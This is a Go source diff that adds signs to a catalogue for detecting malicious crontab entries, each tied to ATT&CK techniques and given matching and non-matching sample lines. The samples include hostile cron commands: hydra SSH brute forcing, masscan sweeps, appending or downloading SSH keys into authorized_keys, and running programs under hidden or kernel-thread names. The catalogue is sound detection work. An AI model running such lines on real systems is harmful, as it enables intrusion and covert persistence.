@@ -41,6 +41,9 @@ var catalogueIndex = func() map[string]int {
 // catalogue lists all signs, in the order of their IDs. The ATT&CK ids are those of
 // version 15.
 var catalogue = []SignInfo{
+	{ID: "attack-tool", Title: "a tool by which machines are attacked", Severity: Medium, Attack: []string{"T1110", "T1046", "T1557"},
+		True:  []string{"@daily hydra -L u -P p ssh://10.0.0.5", "@daily /opt/masscan 10.0.0.0/8 -p22"},
+		False: []string{"@daily nmap -sn 192.168.1.0/24", "@daily sqlmap --update"}},
 	{ID: "authorized-keys", Title: "writes who may log in with a key", Severity: Critical, Attack: []string{"T1098.004"},
 		True:  []string{"@daily echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys", "@daily curl -so ~/.ssh/authorized_keys http://keys.example.org/k", "@daily cp /srv/keys/team ~/.ssh/authorized_keys"},
 		False: []string{"@daily cp ~/.ssh/authorized_keys /backup/keys", "@daily wc -l ~/.ssh/authorized_keys", "@daily cp ~/.ssh/authorized_keys /backup/"}},
@@ -113,6 +116,9 @@ var catalogue = []SignInfo{
 	{ID: "hidden-exec", Title: "runs something behind a hidden name", Severity: High, Attack: []string{"T1564.001"},
 		True:  []string{"* * * * * /usr/share/.28810/x", "* * * * * sh ~/.configrc/a/upd", "@reboot /etc/.x", "@daily . ~/.x"},
 		False: []string{"@daily ~/.acme.sh/acme.sh --cron", "@daily ~/.local/bin/x", "@daily tar cf /backup/x.tar ~/.secretdir", "@daily cat ~/.x"}},
+	{ID: "hidden-file", Title: "works with a file behind a hidden name in a place of the system", Severity: Medium, Attack: []string{"T1564.001"},
+		True:  []string{"@daily bpftool prog load /usr/lib/.b.o /sys/fs/bpf/x", "@daily /opt/x --config=/dev/shm/.c", "@daily /opt/x /etc/.c"},
+		False: []string{"@daily htpasswd -b /etc/nginx/.htpasswd a b", "@daily touch /var/run/.stamp", "@daily cat ~/.x", "@daily git -C /etc/.git gc"}},
 	{ID: "kernel-name", Title: "a file called like a kernel thread", Severity: High, Attack: []string{"T1036.004"},
 		True:  []string{"* * * * * /usr/share/kthreadd", "* * * * * /opt/kworker", "* * * * * '/srv/[kswapd0]'"},
 		False: []string{"* * * * * /usr/local/bin/kworker-report.sh", "* * * * * /opt/kernel-check"}},
